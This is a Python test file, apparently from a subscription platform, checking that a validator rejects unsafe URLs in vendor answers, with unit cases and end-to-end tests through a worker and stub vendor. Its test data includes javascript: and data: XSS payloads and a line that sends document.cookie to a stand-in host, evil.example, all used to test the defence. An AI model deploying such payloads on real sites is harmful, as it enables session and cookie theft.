"""Vendor answers are data, never markup: every URL a vendor answer carries is checked once.

Unit tests of the one check, then the paths a URL comes in by, end to end through a real
Celery worker and an HTTP stub vendor on 127.0.0.1: the synchronous activate answer and the
status answer that ends an asynchronous activation.
"""

import pytest

from services.vendor_client.answer_urls import answer_url_problem, url_problem
from tenants.models import Operation, Tenant
from tests.support.stub_vendor import accepted, register_stub_service, reply
from tests.support.worker import wait_until

HOSTS = ("127.0.0.1",)


@pytest.fixture
def service_factory(stub, transactional_db):
    return lambda **overrides: register_stub_service(stub, **overrides)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("javascript:alert(document.cookie)", "the scheme 'javascript'"),
        ("JaVaScRiPt:alert(1)", "the scheme 'javascript'"),
        ("data:text/html,<script>alert(1)</script>", "the scheme 'data'"),
        ("//evil.example/app", "no scheme"),
        ("/app/t1", "no scheme"),
        ("http://evil.example/app", "must use https"),
        ("https://user:pw@tutor.example/app", "user name or password"),
        ("https:///app", "has no host"),
        ("https://tutor.example/app\n<b>", "whitespace or control"),
        ("https://tutor.example:99999/", "invalid host or port"),
        ("https://tutor.example/" + "a" * 500, "longer than 500"),
        (42, "is not a string"),
    ],
)
def test_url_problem_refuses_what_is_not_a_safe_link(value, expected):
    problem = url_problem(value, http_allowed_hosts=HOSTS)
    assert problem is not None
    assert expected in problem


@pytest.mark.parametrize(
    "value",
    ["https://tutor.example/app/t1", "https://tutor.example:8443/a?b=c", "http://127.0.0.1:8001/x"],
)
def test_url_problem_accepts_https_and_allowed_development_http(value):
    assert url_problem(value, http_allowed_hosts=HOSTS) is None


def test_answer_url_problem_names_the_member_at_any_depth(settings):
    settings.VENDOR_HTTP_ALLOWED_HOSTS = []
    assert answer_url_problem({"status": "active", "access_url": None}) is None
    assert answer_url_problem({"access_url": "https://ok.example/"}) is None
    problem = answer_url_problem({"links": {"admin_url": "javascript:x"}})
    assert problem.startswith("links.admin_url must be an https URL")
    assert answer_url_problem({"status": "active", "plan": "basic"}) is None


# --- end to end: real worker, HTTP stub vendor ------------------------------------------------


def _operation(subscription) -> Operation:
    return Operation.objects.get(subscription=subscription, kind=Operation.Kind.ACTIVATE)


@pytest.mark.worker
def test_async_activation_ending_with_a_javascript_access_url_is_unclear(
    stub, service_factory, workers, subscribe
):
    """The status answer that ends an async activation carries ``access_url: javascript:...``.

    Expected: an unclear answer (polled again, never final), its reason recorded on the
    operation, the tenant still activating with no access URL; once the vendor answers with
    a valid status, the tenant is active on the manifest's access URL, never the script.
    """
    service = service_factory(
        operations={"async": True, "poll_interval_seconds": 1, "timeout_seconds": 300}
    )
    stub.always("activate", accepted(settle_after_polls=0))
    bad_status = {
        "tenant_id": "x",
        "status": "active",
        "plan": "basic",
        "access_url": "javascript:fetch('//evil.example/'+document.cookie)",
    }

    def status_with_script(exchange):
        body = dict(bad_status, tenant_id=exchange.request.tenant_id)
        reply(200, body)(exchange)

    stub.always("status", status_with_script)
    workers.start()
    subscription = subscribe(service, slug="async_js")
    operation = _operation(subscription)
    stub.wait_for_requests("status", 2, timeout=30)

    operation = wait_until(
        lambda: (op := Operation.objects.get(pk=operation.pk)).last_error and op,
        timeout=20,
        message="the unclear status answer was never recorded",
    )
    assert operation.state in (Operation.State.POLLING, Operation.State.IN_FLIGHT)
    assert operation.last_error_kind == "invalid_body"
    assert "access_url must be an https URL, found the scheme 'javascript'" in operation.last_error
    tenant = Tenant.objects.get(pk=operation.tenant_id)
    assert tenant.state == Tenant.State.ACTIVATING
    assert tenant.access_url == ""

    stub.clear("status")
    wait_until(
        lambda: Tenant.objects.get(pk=tenant.pk).state == Tenant.State.ACTIVE,
        timeout=30,
        message="a valid status answer never settled the activation",
    )
    tenant.refresh_from_db()
    assert tenant.access_url.startswith(stub.base_url)
    assert "javascript" not in tenant.access_url


@pytest.mark.worker
def test_activate_answer_with_plain_http_url_is_retried_and_stores_nothing(
    stub, service_factory, workers, subscribe
):
    """A 200 activated whose access_url is http on a host not allowed for development."""
    service = service_factory()

    def activated_on_http(exchange):
        exchange.stub._normal(exchange.request)  # the vendor did activate
        tenant_id = exchange.request.tenant_id
        body = {
            "status": "activated",
            "tenant_id": tenant_id,
            "access_url": f"http://tutor.example/app/{tenant_id}",
        }
        reply(200, body)(exchange)

    stub.script("activate", activated_on_http)
    workers.start()
    subscription = subscribe(service, slug="plain_http")
    operation = _operation(subscription)
    operation = wait_until(
        lambda: (op := Operation.objects.get(pk=operation.pk)).last_error and op,
        timeout=20,
        message="the unclear activate answer was never recorded",
    )
    assert operation.last_error_kind == "invalid_body"
    assert "access_url must use https" in operation.last_error
    assert operation.state in (Operation.State.QUEUED, Operation.State.IN_FLIGHT)
    tenant = Tenant.objects.get(pk=operation.tenant_id)
    assert tenant.state == Tenant.State.ACTIVATING
    assert tenant.access_url == ""
